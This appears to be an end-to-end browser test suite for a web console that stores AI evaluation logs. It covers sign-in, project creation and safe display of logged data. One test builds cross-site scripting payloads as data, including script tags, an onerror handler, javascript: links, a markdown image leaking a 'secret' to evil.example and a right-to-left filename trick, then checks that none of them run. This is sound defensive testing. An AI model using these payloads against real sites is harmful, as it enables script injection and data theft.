// What a newcomer does first, in a real browser; and that what is logged does nothing to whoever looks at it.
import { exec } from 'node:child_process';
import { promisify } from 'node:util';
import { expect } from 'chai';
import { commandVariables } from '../support/commands.js';
import { sharedServer, testKey } from '../support/start-server.js';
import { openPage, sharedBrowser } from './browser.js';

const run = promisify(exec);

describe('console in a browser', () => {
  const server = sharedServer();
  const browser = sharedBrowser();

  it('signs in, makes a project, shows the command of the first event, and then the event', async () => {
    const { page, expectClean, close } = await openPage(browser(), server(), {}, false);
    await page.goto(server().url);
    await page.getByLabel('API key').fill(testKey);
    await page.keyboard.press('Enter');
    await page.getByText('No projects yet').waitFor();
    const stored = await page.evaluate(
      'JSON.stringify([localStorage, sessionStorage, document.cookie])',
    );
    expect(stored).to.include('evalstore-session');
    expect(stored).not.to.include(testKey);

    await page.getByLabel('Name of the new project').fill('a/b %?#');
    await page.keyboard.press('Enter');
    await page.getByText('Waiting for the first event').waitFor();
    // There is no query of a view to show yet, nor later.
    await page.keyboard.press('q');
    const commands = (await page.locator('.snippet pre').allInnerTexts()).join('\n');
    await run(commands.replace('<your key>', testKey), {
      shell: '/bin/bash',
      env: commandVariables(),
    });
    await page.getByRole('row').filter({ hasText: 'Where is my order?' }).waitFor();
    expect(await page.getByRole('dialog').count()).to.equal(0);
    await page.getByRole('row').filter({ hasText: 'Where is my order?' }).click();
    await page.getByRole('region', { name: 'Span' }).getByText('On its way.').waitFor();

    const address = page.url();
    await page.reload();
    await page.getByRole('region', { name: 'Span' }).getByText('On its way.').waitFor();
    expect(page.url()).to.equal(address);
    await page.keyboard.press('Escape');
    await page.getByRole('complementary').waitFor({ state: 'detached' });

    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByLabel('API key').waitFor();
    expect(await page.evaluate('localStorage.length')).to.equal(0);
    expectClean();
    await close();
  });

  it('says what is wrong with a key, and goes on where one wanted to go', async () => {
    const { page, open, close } = await openPage(browser(), server(), {}, false);
    await open('evalstore/p/nowhere/logs');
    await page.getByLabel('API key').fill('wrong');
    await page.keyboard.press('Enter');
    await page.getByText('the API key is not valid').waitFor();
    await page.getByLabel('API key').fill(testKey);
    await page.keyboard.press('Enter');
    await page.getByText('There is no project “nowhere”').waitFor();
    await page.getByText('or your key may not read it').waitFor();
    await close();
  });

  it('shows hostile content, and it does nothing', async () => {
    const { page, open, expectClean, close } = await openPage(browser(), server());
    const project = (await server().request('POST', '/v1/project', { name: 'hostile' })).json();
    const script =
      '<script>document.title="owned"</script><img src="https://evil.example/x.png" onerror="document.title=1">';
    const markdown =
      '![x](https://evil.example/?secret) [y](javascript:document.title=1) \u202Egnp.exe \u0000';
    const nested = JSON.parse('['.repeat(900) + ']'.repeat(900)) as unknown;
    const event = {
      id: script,
      input: [
        {
          role: script,
          content: [
            { type: 'text', text: script + markdown },
            { type: script, x: 1 },
          ],
        },
      ],
      output: script + markdown,
      error: script,
      metadata: { [script]: script, nested, '9': 12_345, '10': 1 },
      tags: [script, 'javascript:alert(1)'],
      scores: { [script]: 0.5 },
      span_attributes: { name: script, type: script },
    };
    const path = `/v1/project_logs/${String(project['id'])}/insert`;
    const text = JSON.stringify({ events: [event] }).replace('12345', '12345678901234567890');
    expect((await server().request('POST', path, text)).status).to.equal(200);
    await open('evalstore/p/hostile/logs');
    await page.getByRole('row').filter({ hasText: 'script' }).nth(0).click();
    const detail = page.getByRole('region', { name: 'Span' });
    await detail.getByText('evil.example').first().waitFor();
    await detail.getByText('12345678901234567890').waitFor();
    expect(await page.locator('#console script, #console img').count()).to.equal(0);
    expect(await page.title()).to.equal('Logs · hostile · Evalstore');
    expectClean();
    await close();
  });
});
